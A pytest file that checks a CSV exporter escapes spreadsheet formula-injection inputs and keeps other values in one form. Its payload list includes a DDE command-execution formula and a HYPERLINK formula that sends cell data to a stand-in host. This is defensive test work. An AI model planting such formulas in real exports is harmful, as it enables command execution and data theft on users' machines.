"""What we write as CSV is data in every spreadsheet, and reads back as what it was."""

import csv as reader
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from uuid import UUID

import pytest

from saleor_retention.core import csv

pytestmark = pytest.mark.promise("G3")

PAYLOADS = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("\t=1+1", "''\t=1+1"),
    ("\tplain", "'\tplain"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n@x", "'\n'@x"),
    ("hello\n=1+1", "hello\n'=1+1"),
    ("hello\r\n-2", "hello\r\n'-2"),
    ("hello\r+3", "hello\r'+3"),
    ("  =1+1", "'  =1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("a\u2028=1", "a\u2028'=1"),
    ("\0=1", "'=1"),
    ('","=1+1', '","=1+1'),
    ("a\n  @x", "a\n'  @x"),
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("R-AB12", "R-AB12"),
    ("", ""),
    ("żółć 5 %", "żółć 5 %"),
]


@pytest.mark.parametrize(("payload", "written"), PAYLOADS)
def test_text_that_a_spreadsheet_would_compute_is_text(payload, written):
    assert csv.cell(payload) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (Decimal("-0.10"), "-0.10"),
        (-0.5, "-0.5"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00+00:00"),
        (date(2026, 3, 1), "2026-03-01"),
        (UUID(int=7), "00000000-0000-0000-0000-000000000007"),
        ({"b": "=1", "a": -1}, '{"a": -1, "b": "=1"}'),
    ],
)
def test_numbers_stay_numbers_and_the_rest_has_one_form(value, written):
    assert csv.cell(value) == written


def test_every_value_is_quoted_and_no_value_ends_its_cell_or_its_line():
    out = StringIO()
    count = csv.write(out, ["id", "text"], ((n, payload) for n, (payload, _) in enumerate(PAYLOADS)))
    text = out.getvalue()
    assert count == len(PAYLOADS)
    assert text.startswith('"id","text"\r\n"0","\'=1+1"\r\n')
    read = list(reader.reader(StringIO(text, newline="")))
    assert read[1:] == [[str(n), written] for n, (_, written) in enumerate(PAYLOADS)]
